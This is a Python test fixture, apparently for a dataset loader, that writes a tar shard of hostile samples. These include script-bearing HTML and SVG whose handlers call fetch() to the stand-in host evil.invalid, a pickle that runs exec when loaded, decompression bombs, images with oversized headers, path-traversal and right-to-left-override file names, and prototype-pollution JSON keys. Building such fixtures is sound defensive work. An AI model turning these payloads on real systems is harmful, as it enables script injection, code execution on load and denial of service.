"""Samples that want to harm who looks at them: markup with scripts, pictures and archives that claim or become huge.

Made by code, some MB in all. What a script of theirs would do is seen: it sets `hacked`, opens a dialog, asks
another host.
"""

import gzip
import io
import json
import pickle
import struct
import tarfile
import zipfile
import zlib

import numpy as np
from PIL import Image

SCRIPT = "hacked=1;alert(1);fetch('http://evil.invalid/s')"
MARKUP = (
    f'<script>{SCRIPT}</script><img src=\'http://evil.invalid/i\' onerror="{SCRIPT}"><svg onload="{SCRIPT}">'
    "<iframe src='http://evil.invalid/f'></iframe><style>@import 'http://evil.invalid/c';</style>"
    f"<meta http-equiv=refresh content='0;url=http://evil.invalid/m'><a href=\"javascript:{SCRIPT}\">x</a>"
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99" '
    f'onload="{SCRIPT}"><script>{SCRIPT}</script><script href="http://evil.invalid/j"/>'
    '<image href="http://evil.invalid/p"/><image xlink:href="http://evil.invalid/q"/>'
    "<style>@import url(http://evil.invalid/c); rect { fill: url(http://evil.invalid/u#x) }</style>"
    f'<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml" onload="{SCRIPT}">'
    f'<iframe src="http://evil.invalid/f"/><img src="x" onerror="{SCRIPT}"/></body></foreignObject>'
    f'<rect width="9" height="9" onclick="{SCRIPT}"><animate attributeName="x" onbegin="{SCRIPT}" dur="1s"/></rect>'
    "</svg>"
)
HTML = f'<!doctype html><html><head><title>x</title></head><body onload="{SCRIPT}">{MARKUP}</body></html>'
SIDE = 32_000  # of a picture of 10^9 pixels


class Opened:
    """A pickle of it leaves a file behind when it is loaded."""

    def __reduce__(self):
        return exec, ("import pathlib, tempfile; pathlib.Path(tempfile.gettempdir(), 'wids-hacked').touch()",)


def chunk(kind, data):
    """A chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width, height, *chunks):
    """A PNG of one bit a pixel, whatever its chunks hold."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + chunk(b"IEND", b"")


def bomb_png():
    """10^9 pixels, all of them there."""
    packer, row = zlib.compressobj(9), bytes(1 + SIDE // 8)
    return png(SIDE, SIDE, chunk(b"IDAT", b"".join(packer.compress(row) for _ in range(SIDE)) + packer.flush()))


def small(kind, **options):
    """A sound picture of a format."""
    stream = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 30, 30)).save(stream, kind, **options)
    return stream.getvalue()


def large_jpeg():
    """A JPEG whose header says 65,500 pixels a side."""
    data = bytearray(small("JPEG"))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(data)


def scans_jpeg():
    """A progressive JPEG of 3,000 scans."""
    data = small("JPEG", progressive=True)
    at = data.rindex(b"\xff\xda")
    return data[:at] + data[at:-2] * 3000 + data[-2:]


def large_gif():
    """A GIF of 65,535 pixels a side."""
    return b"GIF89a" + struct.pack("<HHBBB", 65_535, 65_535, 0, 0, 0) + small("GIF")[13:]


def large_tiff():
    """A TIFF of 40,000 pixels a side, of which there are a few bytes."""
    tags = [(256, 4, 40_000), (257, 4, 40_000), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 8), (277, 3, 1)]
    tags += [(278, 4, 40_000), (279, 4, 1_600_000_000)]
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + bytes(4)


def many_frames_gif(count=100_000):
    """A GIF of so many frames of one pixel."""
    frame = b"!\xf9\4\0\1\0\0\0," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\2\2D\1\0"
    return b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + bytes(6) + frame * count + b";"


def many_frames_png(count=100_000):
    """An APNG of so many frames of one pixel."""
    pixel, number, parts = zlib.compress(b"\0\0"), 0, [chunk(b"acTL", struct.pack(">II", count, 0))]
    for k in range(count):
        parts.append(chunk(b"fcTL", struct.pack(">IIIIIHHBB", number, 1, 1, 0, 0, 1, 100, 0, 0)))
        data = struct.pack(">I", number + 1) + pixel
        parts.append(chunk(b"fdAT", data) if k else chunk(b"IDAT", pixel))
        number += 2 if k else 1
    return png(1, 1, *parts)


def claiming_npy():
    """An array of 10^12 numbers, says its header."""
    stream = io.BytesIO()
    np.lib.format.write_array_header_1_0(stream, {"descr": "<f8", "fortran_order": False, "shape": (10**6, 10**6)})
    return stream.getvalue() + bytes(64)


def objects_npy():
    """An array of Python objects."""
    stream = io.BytesIO()
    np.save(stream, np.array([Opened()], object), allow_pickle=True)
    return stream.getvalue()


def bomb_npz():
    """An archive of 200 MB of zeros."""
    stream, array = io.BytesIO(), io.BytesIO()
    np.save(array, np.zeros(100 << 20, np.uint8))
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name in ("a.npy", "b.npy"):
            archive.writestr(name, array.getvalue())
    return stream.getvalue()


def exif_jpeg():
    """A JPEG whose EXIF is markup, letters of control and a thousand turns."""
    exif = Image.Exif()
    exif[0x010E], exif[0x010F], exif[0x0112] = MARKUP * 20, "\u202ea\x1b[31m\0b", 6
    return small("JPEG", exif=exif.tobytes())


def samples():
    """(key, {field: bytes}) of each; keys and fields are bytes, as they stand in the archive."""
    gz = gzip.compress(bytes(10 << 20), 1) * 200
    markup = MARKUP.replace("/", "_").replace(".", "_").encode()
    deep = b"[" * 100_000 + b"]" * 100_000
    strange = {
        f"<b onclick={SCRIPT}>": [MARKUP, "\u202e", "\ud800", "x" * 10_000],
        "__proto__": {"a": 1},
        "constructor": 1,
    }
    names = [
        b".",
        b"..",
        b".%2e%2e",
        b".a b?c#d&e",
        b".\xff\xfe",
        ".\u202egnp.exe".encode(),
        b"." + b"n" * 3000,
        b".\x01\x1b[31m",
    ]
    return [
        (markup[:2000], {b".txt": MARKUP.encode(), b".cls": b"0", b".json": json.dumps(strange).encode()}),
        (b"names", {name: MARKUP.encode() for name in names}),
        (b"html", {b".html": HTML.encode(), b".htm": HTML.encode(), b".xml": SVG.encode(), b".xhtml": HTML.encode()}),
        (b"svg", {b".svg": SVG.encode()}),
        (b"svg-as-png", {b".png": SVG.encode()}),
        (b"html-as-jpg", {b".jpg": HTML.encode()}),
        (b"html-as-mp4", {b".mp4": HTML.encode()}),
        (
            b"js",
            {
                b".js": SCRIPT.encode(),
                b".css": b"@import 'http://evil.invalid/c'",
                b".pdf": b"%PDF-1.7 " + HTML.encode(),
            },
        ),
        (b"huge-png", {b".png": bomb_png()}),
        (b"huge-jpg", {b".jpg": large_jpeg()}),
        (b"huge-gif", {b".gif": large_gif()}),
        (b"huge-tif", {b".tif": large_tiff()}),
        (b"scans", {b".jpg": scans_jpeg()}),
        (b"frames-gif", {b".gif": many_frames_gif()}),
        (b"frames-png", {b".png": many_frames_png()}),
        (b"cut-jpg", {b".jpg": small("JPEG")[:-200], b".seg.png": small("PNG")[:-30], b".webp": small("WEBP")[:-20]}),
        (b"exif", {b".jpg": exif_jpeg()}),
        (b"npy", {b".npy": claiming_npy()}),
        (b"objects", {b".npy": objects_npy(), b".pkl": pickle.dumps(Opened()), b".pt": pickle.dumps(Opened())}),
        (b"npz", {b".npz": bomb_npz()}),
        (b"gz", {b".txt.gz": gz, b".json.gz": gz, b".npy.gz": gz, b".gz": gz}),
        (b"deep", {b".json": deep, b".mp": b"\x91" * 100_000, b".jsonl": deep}),
        (b"long", {b".json": b'["' + b"x" * (20 << 20) + b'"]', b".txt": b"\xf0\x9f\x90\x8e" * (1 << 20)}),
        (b"many", {b".json": b"[" + b"[]," * 600_000 + b"0]"}),
        (b"numbers", {b".json": b'{"a": NaN, "b": [Infinity, -Infinity, 1e999], "e": ' + b"9" * 4000 + b"}"}),
        (
            b"text",
            {b".txt": b"\xff\xfe\x80 a\0b\x1b[31m \xe2\x80\xaegnp.exe\xe2\x80\xac \xed\xa0\x80", b".cls": b"9" * 5000},
        ),
    ]


def write(path):
    """A shard of them; returns how many samples it has."""
    found = samples()
    with tarfile.open(path, "w", format=tarfile.GNU_FORMAT) as archive:
        for key, fields in found:
            for name, data in fields.items():
                info = tarfile.TarInfo((key + name).decode("utf-8", "surrogateescape"))
                info.size = len(data)
                archive.addfile(info, io.BytesIO(data))
    return len(found)
